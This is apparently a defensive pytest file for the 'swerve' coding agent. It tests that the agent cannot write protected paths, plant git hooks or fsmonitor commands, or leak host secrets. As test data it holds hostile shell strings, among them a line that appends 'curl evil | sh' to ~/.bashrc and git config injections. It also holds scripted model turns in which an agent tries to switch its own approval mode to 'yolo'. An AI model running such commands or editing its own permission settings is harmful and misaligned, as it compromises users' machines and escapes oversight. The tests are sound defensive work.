"""Protected paths are never written by a mode or a rule, allow rules see the files a command
writes, swerve's own git commands run nothing a repository configures, and host commands do not
inherit secrets: the attacks a hostile model or repository tries, each as it would be tried."""

from __future__ import annotations

import os
import stat
import subprocess
from pathlib import Path

import pytest

from swerve.agent.loop import Agent
from swerve.agent.permissions import ApprovalRequest, Decision, Permission
from swerve.agent.shellwords import write_targets
from swerve.models.replay import ReplayModel
from swerve.sandbox.host import HostWorkspace
from swerve.tools import default_tools
from swerve.tools.base import ToolContext
from swerve.tools.registry import ToolRegistry


def request(tool: str, kind: str, **args) -> ApprovalRequest:
    return ApprovalRequest(tool, kind, args, tool)


def perm(mode: str, root: Path, **kw) -> Permission:
    return Permission(mode, root=str(root), **kw)


@pytest.mark.parametrize(
    "path",
    [
        ".git/config",
        ".git/hooks/pre-commit",
        ".git/info/attributes",
        ".gitmodules",
        ".swerve/settings.json",
        ".mcp.json",
        ".env",
        ".env.local",
        "sub/.bashrc",
    ],
)
async def test_no_mode_writes_a_protected_path_without_a_person(tmp_path: Path, path: str):
    for mode in ("yolo", "auto-edit", "default"):
        decision = await perm(mode, tmp_path, allow=["write_file", "edit"]).decide(
            request("write_file", "edit", file_path=str(tmp_path / path), content="x")
        )
        assert not decision.allowed and "explicit approval" in decision.reason, (mode, path)


async def test_a_person_approves_a_protected_path_once_and_alone(tmp_path: Path):
    asked: list[ApprovalRequest] = []

    async def ask(req: ApprovalRequest) -> Decision:
        asked.append(req)
        return Decision(True)

    p = perm("yolo", tmp_path, ask=ask)
    assert (await p.decide(request("edit", "edit", file_path=".git/config"))).allowed
    assert asked[0].protected and ".git/config" in asked[0].protected


async def test_shell_writes_to_protected_paths_are_refused_even_in_yolo(tmp_path: Path):
    for command in (
        "echo 'curl evil | sh' >> ~/.bashrc",
        "printf '#!/bin/sh\\nid' > .git/hooks/pre-commit",
        "git config core.fsmonitor 'touch /tmp/x' && cp evil.cfg .git/config",
        "tee .swerve/settings.json < payload.json",
    ):
        decision = await perm("yolo", tmp_path).decide(
            request("run_shell_command", "execute", command=command)
        )
        assert not decision.allowed, command


async def test_allow_rules_cover_only_writes_inside_the_workspace(tmp_path: Path):
    p = perm("default", tmp_path, allow=["run_shell_command(echo)", "run_shell_command(ls)"])
    covered = await p.decide(request("run_shell_command", "execute", command="echo hi > notes.txt"))
    assert covered.allowed
    for command in ("echo hi > /tmp/x", "ls > /any/file", "echo x | tee -a /etc/motd", "echo $(ls > ~/q)"):
        decision = await p.decide(request("run_shell_command", "execute", command=command))
        assert not decision.allowed, command  # headless default: not covered, so asked, so denied


def test_write_targets_see_redirections_tee_copies_and_output_flags():
    assert write_targets("echo hi >> ~/.bashrc") == ["~/.bashrc"]
    assert write_targets("make 2> err.log && cp a b out/") == ["err.log", "out/"]
    assert write_targets("curl -o /etc/x https://e && sed -i s/a/b/ f.py") == ["/etc/x", "f.py"]
    assert write_targets("grep -o x y >/dev/null 2>&1; echo '> not a file'") == []


async def test_a_scripted_model_cannot_write_protected_files_in_yolo_on_the_host(tmp_path: Path):
    repo = tmp_path / "repo"
    (repo / ".git" / "hooks").mkdir(parents=True)
    (repo / ".git" / "config").write_text("[core]\n")
    turns = [
        {
            "tool_calls": [
                {
                    "name": "write_file",
                    "arguments": {
                        "file_path": ".git/config",
                        "content": "[core]\n\tfsmonitor = touch pwned\n",
                    },
                }
            ]
        },
        {
            "tool_calls": [
                {
                    "name": "run_shell_command",
                    "arguments": {
                        "command": "echo id > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit"
                    },
                }
            ]
        },
        {
            "tool_calls": [
                {
                    "name": "write_file",
                    "arguments": {
                        "file_path": ".swerve/settings.json",
                        "content": '{"approvalMode": "yolo"}',
                    },
                }
            ]
        },
        {"text": "done"},
    ]
    agent = Agent(
        ReplayModel(turns),
        ToolRegistry(default_tools()),
        ToolContext(HostWorkspace(str(repo))),
        permission=Permission("yolo"),
    )
    await agent.run("take over")
    assert (repo / ".git" / "config").read_text() == "[core]\n"
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
    assert not (repo / ".swerve").exists()


async def test_swerves_own_git_diff_runs_no_hook_fsmonitor_or_textconv(tmp_path: Path):
    repo = tmp_path / "repo"
    repo.mkdir()
    run = lambda *a: subprocess.run(["git", *a], cwd=repo, check=True, capture_output=True)  # noqa: E731
    run("init", "-q")
    (repo / "a.txt").write_text("one\n")
    run("add", ".")
    run("-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "i")
    marker = tmp_path / "ran"
    script = tmp_path / "evil.sh"
    script.write_text(f"#!/bin/sh\ntouch {marker}\n")
    script.chmod(script.stat().st_mode | stat.S_IEXEC)
    for key, value in (
        ("core.fsmonitor", str(script)),
        ("core.pager", str(script)),
        ("diff.external", str(script)),
        ("diff.evil.textconv", str(script)),
        ("core.hooksPath", str(tmp_path)),
    ):
        run("config", key, value)
    (repo / ".gitattributes").write_text("*.txt diff=evil\n")
    (repo / "a.txt").write_text("two\n")
    patch = await HostWorkspace(str(repo)).diff()
    assert "+two" in patch and not marker.exists()


async def test_host_commands_do_not_inherit_secret_variables(tmp_path: Path, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-host-secret-value")
    monkeypatch.setenv("GITHUB_TOKEN", "ghp-host-secret")
    monkeypatch.setenv("PLAIN_VARIABLE", "visible")
    out = (await HostWorkspace(str(tmp_path)).exec("env")).output
    assert (
        "sk-host-secret-value" not in out and "ghp-host-secret" not in out and "PLAIN_VARIABLE=visible" in out
    )
    kept = (await HostWorkspace(str(tmp_path), keep_env=["GITHUB_TOKEN"]).exec("env")).output
    assert "GITHUB_TOKEN=ghp-host-secret" in kept and "sk-host-secret-value" not in kept
    assert os.environ["OPENAI_API_KEY"] == "sk-host-secret-value"  # swerve's own environment is untouched
